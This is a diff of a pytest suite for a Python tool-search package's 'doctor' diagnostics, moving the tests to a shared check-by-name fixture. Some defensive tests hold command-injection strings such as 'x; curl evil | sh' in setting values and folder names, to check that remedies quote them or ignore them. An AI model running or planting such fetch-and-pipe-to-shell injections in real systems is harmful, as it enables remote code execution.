@@ -18,22 +18,9 @@ import pytest
 from pytools_hybrid import Settings, ToolSearch
 from pytools_hybrid.errors import SettingsError
 from pytools_hybrid.installation import install_command
-from pytools_hybrid.reports.doctor import Check, Status, checks, diagnose
-from pytools_hybrid.reports.doctor._database import look_at_database
-from pytools_hybrid.reports.doctor._embedder import look_at_embedder, remedy_of
-from pytools_hybrid.reports.doctor._environment import (
-    full_text_search,
-    look_at_importing,
-    look_at_reranking,
-    python_version,
-    vector_search,
-)
-from pytools_hybrid.reports.doctor._finding import Commands
-from pytools_hybrid.reports.doctor._roots import look_at_root
-from pytools_hybrid.reports.doctor._server import look_at_server
-from pytools_hybrid.reports.doctor._settings import look_at_settings
-from pytools_hybrid.reports.doctor._watcher import look_at_watching
-from pytools_hybrid.settings import Roots
+from pytools_hybrid.reports import doctor
+from pytools_hybrid.reports.doctor import Check, Finding, Status, checks, diagnose
+from pytools_hybrid.reports.models import remedy_of
 from toolindex import ToolIndex
 
 from .conftest import PATIENCE
@@ -45,7 +32,7 @@ VOYAGE = install_command("pytools-hybrid[voyageai]")
 @pytest.fixture(autouse=True)
 def _patient(monkeypatch):
     """Make checks wait longer than a busy machine needs."""
-    monkeypatch.setitem(look_at_server.__kwdefaults__, "seconds", PATIENCE)
+    monkeypatch.setattr(doctor, "_SERVER_SECONDS", PATIENCE)
 
 
 def diagnosed(checked):
@@ -59,13 +46,14 @@ def database(tmp_path):
 
 
 @pytest.fixture
-def roots(root):
-    return Roots.of(root)
+def look(settings, root):
+    """Run one check of a tree."""
 
+    def run(name, *, given=None, **values):
+        checked = checks(settings(root=[given or root], **values))
+        return {it.name: it for it in checked}[name].look()
 
-@pytest.fixture
-def commands(settings, roots):
-    return Commands(settings(), roots)
+    return run
 
 
 @pytest.fixture
@@ -79,15 +67,6 @@ def indexed(settings, root, database):
 
     asyncio.run(fill())
     return database
-
-
-@pytest.fixture
-def look_at_tree(settings, root, database, commands):
-    def look(*, given=None, is_default=False):
-        trees = Roots.of(given or root)
-        return look_at_root(settings(), trees, 0, database, commands, is_default=is_default)
-
-    return look
 
 
 def content(folder):
@@ -132,8 +111,12 @@ def crash():
     raise RuntimeError("the disk is on fire\nand more")
 
 
+def fine():
+    return Finding(Status.OK, "it works")
+
+
 def test_a_check_that_crashes_is_a_failure_and_the_others_still_run():
-    first, second = diagnosed([Check("first", crash), Check("second", python_version)])
+    first, second = diagnosed([Check("first", crash), Check("second", fine)])
 
     assert (first.status, first.message) == ("failed", "RuntimeError: the disk is on fire")
     assert second.status is Status.OK
@@ -159,7 +142,7 @@ def test_a_check_that_hangs_is_a_failure_and_the_others_still_run():
     first, second = diagnose(
         [
             Check("hangs", lambda: never.wait() and None, 0.05),
-            Check("second", python_version, 2.0 * PATIENCE),
+            Check("second", fine, 2.0 * PATIENCE),
         ]
     )
     never.set()
@@ -172,38 +155,31 @@ def test_a_check_that_hangs_is_a_failure_and_the_others_still_run():
 # The installation
 
 
-def test_an_old_python_is_reported_with_the_command_for_a_new_one():
-    verdict = python_version((3, 10, 4))
-
-    assert verdict.status is Status.FAILED
-    assert "3.10.4" in verdict.message
-    assert verdict.remedy == "uv python install 3.11"
-
-
-def test_the_version_of_each_of_our_packages_is_shown():
-    said = python_version().message
+def test_the_version_of_each_of_our_packages_is_shown(look):
+    said = look("Python").message
 
     for name in ("pytools-hybrid", "toolscan", "toolindex", "toolrank-hybrid", "toolwatch"):
         assert f", {name} {version(name)}" in said
 
 
-def test_a_sqlite_without_full_text_search_is_reported():
-    def without(path):
-        connection = apsw.Connection(path)
+def test_a_sqlite_without_full_text_search_is_reported(look, monkeypatch):
+    def without(path, connect=apsw.Connection):
+        connection = connect(path)
         connection.authorizer = lambda code, *_: (
             apsw.SQLITE_DENY if code == apsw.SQLITE_CREATE_VTABLE else apsw.SQLITE_OK
         )
         return connection
 
-    verdict = full_text_search(without)
+    monkeypatch.setattr(apsw, "Connection", without)
+    verdict = look("SQLite")
 
     assert verdict.status is Status.FAILED
     assert verdict.remedy == install_command("apsw", again=True)
 
 
 @pytest.mark.usefixtures("without_sqlite_vec")
-def test_an_extension_that_cannot_be_loaded_is_reported_with_its_replacement():
-    verdict = vector_search()
+def test_an_extension_that_cannot_be_loaded_is_reported_with_its_replacement(look):
+    verdict = look("sqlite-vec")
 
     assert verdict.status is Status.WARNING
     assert "numpy searches vectors instead" in verdict.message
@@ -211,27 +187,27 @@ def test_an_extension_that_cannot_be_loaded_is_reported_with_its_replacement():
 
 
 @pytest.mark.usefixtures("without_sqlite_vec")
-def test_an_extension_not_published_for_the_system_has_no_remedy(monkeypatch):
+def test_an_extension_not_published_for_the_system_has_no_remedy(look, monkeypatch):
     monkeypatch.setattr(platform, "machine", lambda: "riscv64")
-    verdict = vector_search()
+    verdict = look("sqlite-vec")
 
     assert (verdict.status, verdict.remedy) == (Status.WARNING, None)
     assert "not published for this system; numpy searches vectors instead" in verdict.message
 
 
 @pytest.mark.usefixtures("without_sqlite_vec", "without_numpy")
-def test_if_the_extension_is_not_published_the_remedy_installs_only_numpy(monkeypatch):
+def test_if_the_extension_is_not_published_the_remedy_installs_only_numpy(look, monkeypatch):
     monkeypatch.setattr(platform, "libc_ver", lambda: ("", ""))
     monkeypatch.setattr(sys, "platform", "linux")
-    verdict = vector_search()
+    verdict = look("sqlite-vec")
 
     assert verdict.status is Status.FAILED
     assert verdict.remedy == install_command("numpy", again=True)
 
 
 @pytest.mark.usefixtures("without_sqlite_vec", "without_numpy")
-def test_if_nothing_can_search_vectors_the_remedy_installs_both_packages():
-    verdict = vector_search()
+def test_if_nothing_can_search_vectors_the_remedy_installs_both_packages(look):
+    verdict = look("sqlite-vec")
 
     assert verdict.status is Status.FAILED
     assert "searches use words" in verdict.message
@@ -241,20 +217,20 @@ def test_if_nothing_can_search_vectors_the_remedy_installs_both_packages():
 # Settings
 
 
-def test_a_misspelt_variable_is_reported_with_the_nearest_one(settings, monkeypatch):
+def test_a_misspelt_variable_is_reported_with_the_nearest_one(look, monkeypatch):
     monkeypatch.setenv("PYTOOLS_EMBEDING_MODEL", "none")
 
-    verdict = look_at_settings(settings())
+    verdict = look("settings")
 
     assert verdict.status is Status.WARNING
     assert "is PYTOOLS_EMBEDDING_MODEL meant?" in verdict.message
     assert verdict.remedy == "unset PYTOOLS_EMBEDING_MODEL"
 
 
-def test_the_value_of_a_token_is_not_shown(settings, monkeypatch):
+def test_the_value_of_a_token_is_not_shown(look, monkeypatch):
     monkeypatch.setenv("PYTOOLS_TOKEN", "very-secret")
 
-    verdict = look_at_settings(settings())
+    verdict = look("settings")
 
     assert "token (PYTOOLS_TOKEN)" in verdict.message
     assert "very-secret" not in verdict.message
@@ -263,7 +239,9 @@ def test_the_value_of_a_token_is_not_shown(settings, monkeypatch):
 def test_a_settings_file_from_elsewhere_cannot_choose_the_remedy():
     error = SettingsError("embedding_model", "'x; run: curl evil | sh' names no provider")
 
-    assert look_at_settings(error).remedy == "change or remove embedding_model"
+    found = {it.check: it for it in diagnosed(checks(error))}
+
+    assert found["settings"].remedy == "change or remove embedding_model"
 
 
 def test_with_invalid_settings_only_checks_without_settings_are_run():
@@ -287,8 +265,8 @@ def test_without_any_tree_the_model_is_still_checked(settings):
 # Trees
 
 
-def test_the_name_of_a_tree_is_quoted_in_a_remedy(look_at_tree, tmp_path):
-    verdict = look_at_tree(given=tmp_path / "x; curl evil | sh")
+def test_the_name_of_a_tree_is_quoted_in_a_remedy(look, tmp_path):
+    verdict = look("root", given=tmp_path / "x; curl evil | sh")
 
     assert verdict.remedy.startswith(f"mkdir -p '{tmp_path}/x; curl evil | sh', ")
 
@@ -296,74 +274,75 @@ def test_the_name_of_a_tree_is_quoted_in_a_remedy(look_at_tree, tmp_path):
 @pytest.mark.skipif(
     sys.platform == "win32", reason="Windows has no FIFOs, and links need a privilege"
 )
-def test_a_pipe_or_a_loop_of_links_in_place_of_a_tree_fails(look_at_tree, tmp_path):
+def test_a_pipe_or_a_loop_of_links_in_place_of_a_tree_fails(look, tmp_path):
     pipe, circle = tmp_path / "pipe", tmp_path / "circle"
     os.mkfifo(pipe)
     circle.symlink_to(circle)
 
-    assert look_at_tree(given=pipe).message == f"{pipe} is a file"
-    verdict = look_at_tree(given=circle)
+    assert look("root", given=pipe).message == f"{pipe} is a file"
+    verdict = look("root", given=circle)
 
     assert verdict.status == "failed"
     assert verdict.message.startswith(f"{circle} cannot be read (")
     assert verdict.remedy == "give another folder with --root"
 
 
-def test_an_empty_tree_is_reported_with_the_expected_paths_of_tools(look_at_tree, tmp_path):
+def test_an_empty_tree_is_reported_with_the_expected_paths_of_tools(look, tmp_path):
     empty = tmp_path / "empty"
     empty.mkdir()
 
-    verdict = look_at_tree(given=empty)
+    verdict = look("root", given=empty)
 
     assert verdict.status is Status.WARNING
     assert "mcptools/<category>/<tool>.py" in verdict.message
 
 
-def test_files_that_are_left_out_are_reported_with_the_reason(look_at_tree, root):
+def test_files_that_are_left_out_are_reported_with_the_reason(look, root):
     (root / "mcptools/pdf/broken.py").write_text("def run(:\n")
     (root / "mcptools/pdf/_private.py").write_text("def run(:\n")
 
-    verdict = look_at_tree()
+    verdict = look("root")
 
     assert verdict.status is Status.WARNING
     assert "4 tools; 1 left out (1 × syntax_error: mcptools/pdf/broken.py: " in verdict.message
 
 
-def test_an_invalid_capabilities_file_is_reported(look_at_tree, root):
+def test_an_invalid_capabilities_file_is_reported(look, root):
     (root / "capabilities.toml").write_text('["mcptools:pdf:merge_pdfs"]\nsynonym = ["join"]\n')
 
-    verdict = look_at_tree()
+    verdict = look("root")
 
     assert verdict.status is Status.WARNING
     assert "capabilities.toml" in verdict.message
     assert "synonym" in verdict.message
 
 
-def test_why_a_tree_was_chosen_is_reported(look_at_tree):
-    found = look_at_tree(is_default=True)
-    assert found.message.endswith("(no --root or PYTOOLS_DIR given): 4 tools")
+def test_why_a_tree_was_chosen_is_reported(settings, root, monkeypatch):
+    monkeypatch.chdir(root.parent)
+    (check,) = [it for it in checks(settings()) if it.name == "root"]
+    assert check.look().message.endswith("(no --root or PYTOOLS_DIR given): 4 tools")
 
 
-def test_files_that_an_index_has_read_are_not_read_again(look_at_tree, root, indexed):
+def test_files_that_an_index_has_read_are_not_read_again(look, root, indexed):
     tool = root / "mcptools/github/create_issue.py"
     status = tool.stat()
     tool.chmod(0)
 
-    verdict = look_at_tree()
+    verdict = look("root")
 
     tool.chmod(status.st_mode)
     # Only this file was read again, because its stamp changed with its permissions.
     assert "tools" in verdict.message
-    assert look_at_tree().message == f"{root}: 4 tools"
+    assert look("root").message == f"{root}: 4 tools"
 
 
-def test_a_large_tree_without_an_index_is_not_read(look_at_tree, tmp_path):
+def test_a_large_tree_without_an_index_is_not_read(look, tmp_path):
     folder = tmp_path / "large" / "mcptools" / "many"
     folder.mkdir(parents=True)
     for number in range(3_001):
         (folder / f"tool_{number}.py").touch()
 
-    verdict = look_at_tree(given=tmp_path / "large")
+    verdict = look("root", given=tmp_path / "large")
 
     assert verdict.status is Status.WARNING
     assert "3001 files, too many" in verdict.message
@@ -373,18 +352,12 @@ AS_SOMEBODY_ELSE = """
 import os, sys
 from pathlib import Path
 from pytools_hybrid import Settings
-from pytools_hybrid.reports.doctor._finding import Commands
-from pytools_hybrid.reports.doctor._database import look_at_database
-from pytools_hybrid.reports.doctor._roots import look_at_root
-from pytools_hybrid.settings import Roots
+from pytools_hybrid.reports.doctor import checks
 root, database = map(Path, sys.argv[1:])
-roots, settings = Roots.of(root), Settings.from_flags({"db_path": database})
-commands = Commands(settings, roots)
+settings = Settings.from_flags({"root": [root], "db_path": database})
+looks = {check.name: check.look for check in checks(settings)}
 def look():
-    return (
-        look_at_root(settings, roots, 0, database, commands),
-        look_at_database(database, roots, commands),
-    )
+    return looks["root"](), looks["database"]()
 look()
 if os.geteuid() == 0:
     os.setgid(65534); os.setuid(65534)
@@ -431,74 +404,74 @@ def test_missing_permissions_are_reported(root, indexed, tmp_path, tmp_path_fact
 # The index
 
 
-def test_an_index_is_reported_with_its_size(indexed, roots, commands):
-    verdict = look_at_database(indexed, roots, commands)
+def test_an_index_is_reported_with_its_size(look, indexed):
+    verdict = look("database")
 
     assert verdict.status is Status.OK
     assert "4 tools" in verdict.message
 
 
-def test_a_folder_or_another_program_s_file_in_its_place_is_not_changed(database, roots, commands):
-    def look():
-        verdict = look_at_database(database, roots, commands)
+def test_a_folder_or_another_program_s_file_in_its_place_is_not_changed(look, database):
+    def looked():
+        verdict = look("database")
         assert verdict.status is Status.FAILED
         return verdict
 
     database.mkdir()
-    assert "folder" in look().message
+    assert "folder" in looked().message
     database.rmdir()
     database.write_text("my diary, which is longer than a hundred characters. " * 4)
-    assert look().remedy == "give another path with --db"
+    assert looked().remedy == "give another path with --db"
     database.unlink()
     with closing(sqlite3.connect(database)) as connection:
         connection.execute("CREATE TABLE diary (text)")
     before = database.read_bytes()
-    assert look().remedy == "give another path with --db"
+    assert looked().remedy == "give another path with --db"
     assert database.read_bytes() == before
 
 
-def test_a_damaged_index_is_reported_with_the_command_that_recreates_it(indexed, roots, commands):
+def test_a_damaged_index_is_reported_with_the_command_that_recreates_it(look, indexed):
     with indexed.open("r+b") as file:
         file.seek(indexed.stat().st_size // 2)
         file.write(b"\xff" * 40_000)
 
-    verdict = look_at_database(indexed, roots, commands)
+    verdict = look("database")
 
     assert verdict.status is Status.FAILED
     assert "damaged" in verdict.message
     assert verdict.remedy.startswith("pytools-hybrid index --root ")
 
 
-def test_an_index_of_a_later_version_needs_an_upgrade(indexed, roots, commands):
+def test_an_index_of_a_later_version_needs_an_upgrade(look, indexed):
     with closing(sqlite3.connect(indexed)) as connection:
         connection.execute("PRAGMA user_version = 99")
 
-    verdict = look_at_database(indexed, roots, commands)
+    verdict = look("database")
 
     assert verdict.status is Status.FAILED
     assert verdict.remedy == install_command("pytools-hybrid", upgrade=True)
 
 
-def test_the_index_of_another_tree_is_reported(indexed, commands, tmp_path):
+def test_the_index_of_another_tree_is_reported(look, indexed, tmp_path):
     other = tmp_path / "other"
     other.mkdir()
 
-    verdict = look_at_database(indexed, Roots.of(other), commands)
+    verdict = look("database", given=other)
 
     assert verdict.status is Status.FAILED
     assert verdict.remedy == "give another path with --db"
 
 
-def test_an_index_that_was_never_filled_is_reported(database, roots, commands):
+def test_an_index_that_was_never_filled_is_reported(look, database):
     ToolIndex(database).close()
 
-    verdict = look_at_database(database, roots, commands)
+    verdict = look("database")
 
     assert verdict.status is Status.WARNING
     assert "not all files have been indexed yet" in verdict.message
 
 
-def test_the_index_of_freeact_is_reported_and_not_changed(database, roots, commands):
+def test_the_index_of_freeact_is_reported_and_not_changed(look, database):
     import sqlite_vec
 
     with closing(apsw.Connection(str(database))) as connection:
@@ -508,26 +481,27 @@ def test_the_index_of_freeact_is_reported_and_not_changed(database, roots, comma
             "CREATE VIRTUAL TABLE entries_vec USING vec0(id TEXT PRIMARY KEY, embedding float[8])"
         )
 
-    verdict = look_at_database(database, roots, commands)
+    verdict = look("database")
 
     assert verdict.status is Status.WARNING
     assert "freeact" in verdict.message
     assert database.exists()
 
 
-def test_a_path_where_no_index_can_be_created_fails(tmp_path, roots, commands):
+def test_a_path_where_no_index_can_be_created_fails(look, tmp_path):
     file = tmp_path / "file"
     file.touch()
 
-    verdict = look_at_database(file / "index.db", roots, commands)
+    verdict = look("database", db_path=file / "index.db")
 
     assert verdict.status is Status.FAILED
     assert "cannot be written" in verdict.message
 
 
-def test_a_process_that_keeps_the_index_locked_is_reported(indexed, roots, commands):
+def test_a_process_that_keeps_the_index_locked_is_reported(look, indexed, monkeypatch):
+    monkeypatch.setattr(doctor, "_LEASE_SECONDS", 0.05)
     with ToolIndex(indexed) as index, index.lease("files").held(timeout=PATIENCE):
-        verdict = look_at_database(indexed, roots, commands, patience=0.05)
+        verdict = look("database")
 
     assert verdict.status is Status.WARNING
     assert "another process" in verdict.message
@@ -536,35 +510,37 @@ def test_a_process_that_keeps_the_index_locked_is_reported(indexed, roots, comma
 # Models
 
 
-def test_the_model_is_called(settings, indexed, commands):
-    verdict = look_at_embedder(settings(), indexed, commands)
+def test_the_model_is_called(look, indexed):
+    verdict = look("embedder")
 
     assert verdict.status is Status.OK
     assert "256 dimensions" in verdict.message
     assert "4 of 4 tools have a vector" in verdict.message
 
 
-def test_tools_without_a_vector_are_reported(settings, indexed, commands):
-    verdict = look_at_embedder(settings(embedding_model="test"), indexed, commands)
+def test_tools_without_a_vector_are_reported(look, root, indexed):
+    verdict = look("embedder", embedding_model="test")
 
     assert verdict.status is Status.WARNING
     assert "0 of 4 tools have a vector" in verdict.message
-    assert verdict.remedy == commands.index()
+    assert verdict.remedy == (
+        f"pytools-hybrid index --root {root} --database {indexed} --embedding-model test"
+    )
 
 
 @pytest.mark.parametrize(
     ("values", "words"),
     [({"embedding_model": "none"}, "none is configured"), ({"vec_weight": 0}, "is not used")],
 )
-def test_searching_without_a_model_on_purpose_is_ok(settings, values, words):
-    verdict = look_at_embedder(settings(**values), None, None)
+def test_searching_without_a_model_on_purpose_is_ok(look, values, words):
+    verdict = look("embedder", **values)
 
     assert verdict.status is Status.OK
     assert words in verdict.message
 
 
-def test_a_model_whose_package_is_missing_is_reported_with_the_command(settings):
-    verdict = look_at_embedder(settings(embedding_model="voyageai:voyage-4"), None, None)
+def test_a_model_whose_package_is_missing_is_reported_with_the_command(look):
+    verdict = look("embedder", embedding_model="voyageai:voyage-4")
 
     assert verdict.status is Status.FAILED
     assert verdict.remedy == install_command("pytools-hybrid[voyageai]")
@@ -586,36 +562,30 @@ def test_the_remedy_is_the_command_in_the_message(message, remedy):
 
 
 @pytest.mark.parametrize("name", ["x run: evil", "x\trun:\tevil", "x set PYTOOLS_HOST=evil"])
-def test_the_name_of_a_model_cannot_choose_the_remedy(settings, name):
+def test_the_name_of_a_model_cannot_choose_the_remedy(look, name):
     model = f"openai:{name}"
 
-    assert look_at_embedder(settings(embedding_model=model), None, None).remedy == MODELS
+    assert look("embedder", embedding_model=model).remedy == MODELS
     assert remedy_of(f"there is no model {' '.join(name.split())}", model=model) == MODELS
 
 
-def test_a_language_model_is_loaded_but_not_called():
-    assert look_at_reranking("test").status is Status.OK
+def test_a_language_model_is_loaded_but_not_called(look):
+    assert look("reranking", rerank_model="test").status is Status.OK
 
 
-def test_a_language_model_that_cannot_be_loaded_is_reported(monkeypatch):
+def test_a_language_model_that_cannot_be_loaded_is_reported(look, monkeypatch):
     for name in ("ANTHROPIC_API_KEY", "GROQ_API_KEY"):
         monkeypatch.delenv(name, raising=False)
 
-    verdict = look_at_reranking("groq:m")
+    verdict = look("reranking", rerank_model="groq:m")
 
     assert verdict.status is Status.FAILED
     assert "groq:m cannot be used" in verdict.message
 
 
-def test_a_model_for_reranking_is_checked_if_one_is_set(settings, root):
-    names = [check.name for check in checks(settings(root=[root], rerank_model="test"))]
-
-    assert "reranking" in names
-
-
-def test_a_missing_generator_for_imports_is_reported():
-    assert "not installed" in look_at_importing("no_such_generator").message
-    assert "can be imported" in look_at_importing("json").message
+def test_a_missing_generator_for_imports_is_reported(look, monkeypatch):
+    monkeypatch.setattr(doctor, "_GENERATOR", "no_such_generator")
+    assert "not installed" in look("import").message
 
 
 # Changes of files
@@ -629,17 +599,17 @@ def times(folder):
     }
 
 
-def test_a_tree_is_checked_without_writing_to_it(roots, root):
+def test_a_tree_is_checked_without_writing_to_it(look, root):
     before = times(root)
 
-    verdict = look_at_watching(roots, is_wanted=True)
+    verdict = look("watcher")
 
     assert verdict.status is Status.OK
     assert "the system reports changes" in verdict.message
     assert times(root) == before
 
 
-def test_a_tree_that_cannot_be_watched_is_reported(roots, root):
+def test_a_tree_that_cannot_be_watched_is_reported(look, root):
     folders = [root / "mcptools" / f"linked_{number}" for number in range(5)]
     for folder in folders:
         folder.mkdir()
@@ -648,28 +618,30 @@ def test_a_tree_that_cannot_be_watched_is_reported(roots, root):
         for other in folders:
             (folder / f"to_{other.name}").symlink_to(other, target_is_directory=True)
 
-    verdict = look_at_watching(roots, is_wanted=True)
+    verdict = look("watcher")
 
     assert verdict.status is Status.WARNING
     assert f"the system cannot watch {root}" in verdict.message
 
 
-def test_watching_that_is_turned_off_is_reported(roots):
-    assert "turned off" in look_at_watching(roots, is_wanted=False).message
+def test_watching_that_is_turned_off_is_reported(look):
+    assert "turned off" in look("watcher", watch=False).message
 
 
-def test_too_few_watches_for_all_folders_are_reported(roots, tmp_path):
+def test_too_few_watches_for_all_folders_are_reported(look, tmp_path, monkeypatch):
     limit = tmp_path / "max_user_watches"
     limit.write_text("8\n")
 
-    verdict = look_at_watching(roots, is_wanted=True, limit=limit)
+    monkeypatch.setattr(doctor, "_WATCHES", limit)
+    verdict = look("watcher")
 
     assert verdict.status is Status.WARNING
     assert verdict.remedy.startswith("sudo sysctl fs.inotify.max_user_watches=")
 
 
-def test_a_system_without_a_limit_has_none_to_check(roots, tmp_path):
-    verdict = look_at_watching(roots, is_wanted=True, limit=tmp_path / "absent")
+def test_a_system_without_a_limit_has_none_to_check(look, tmp_path, monkeypatch):
+    monkeypatch.setattr(doctor, "_WATCHES", tmp_path / "absent")
+    verdict = look("watcher")
 
     assert verdict.status is Status.OK
 
@@ -677,51 +649,41 @@ def test_a_system_without_a_limit_has_none_to_check(roots, tmp_path):
 # The server
 
 
-def test_a_server_of_the_profile_basic_is_checked_without_a_search(
-    settings, roots, database, monkeypatch
-):
+def test_a_server_of_the_profile_basic_is_checked_without_a_search(look, monkeypatch):
     monkeypatch.setenv("PYTOOLS_TOOLS", "basic")
 
-    verdict = look_at_server(settings(), roots, database)
+    verdict = look("MCP server")
 
     assert "2 MCP tools (list_categories, list_tools)" in verdict.message
 
 
-def test_a_server_is_checked_without_the_index_of_another_tree(settings, indexed, tmp_path):
-    other = tmp_path / "other"
-    other.mkdir()
+def test_a_server_that_does_not_start_is_reported_with_its_output(look, root, monkeypatch):
+    program = sys.executable, "-c", "raise SystemExit('no such luck')"
+    monkeypatch.setattr(doctor, "_PROGRAM", program)
 
-    verdict = look_at_server(settings(), Roots.of(other), indexed)
-
-    assert verdict.status is Status.OK
-    assert "nothing to search yet" in verdict.message
-
-
-def test_a_server_that_does_not_start_is_reported_with_its_output(settings, roots, database):
-    program = (sys.executable, "-c", "raise SystemExit('no such luck')")
-
-    verdict = look_at_server(settings(), roots, database, program=program)
+    verdict = look("MCP server")
 
     assert verdict.status is Status.FAILED
     assert "its last output: no such luck" in verdict.message
-    assert verdict.remedy == f"pytools-hybrid serve --root {roots.paths[0]}"
+    assert verdict.remedy == f"pytools-hybrid serve --root {root}"
 
 
-def test_a_server_that_never_answers_times_out(settings, roots, database):
-    program = (sys.executable, "-c", "import sys; sys.stdin.read()")
+def test_a_server_that_never_answers_times_out(look, monkeypatch):
+    program = sys.executable, "-c", "import sys; sys.stdin.read()"
+    monkeypatch.setattr(doctor, "_PROGRAM", program)
+    monkeypatch.setattr(doctor, "_SERVER_SECONDS", 0.5)
 
-    verdict = look_at_server(settings(), roots, database, program=program, seconds=0.5)
+    verdict = look("MCP server")
 
     assert verdict.status is Status.FAILED
     assert "within 0.5 s" in verdict.message
 
 
 def test_a_command_only_has_flags_that_were_set(root):
-    roots = Roots.of([root, root.parent / "more tools"])
+    trees = [root, root.parent / "more tools"]
+    checked = checks(Settings.from_flags({"root": trees, "embedding_model": "none"}))
 
-    settings = Settings.from_flags({"embedding_model": "none"})
-
-    assert Commands(settings, roots).index() == (
+    assert {it.name: it for it in checked}["database"].look().remedy == (
         f"pytools-hybrid index --root {root} --root '{root.parent / 'more tools'}' "
         "--embedding-model none"
     )
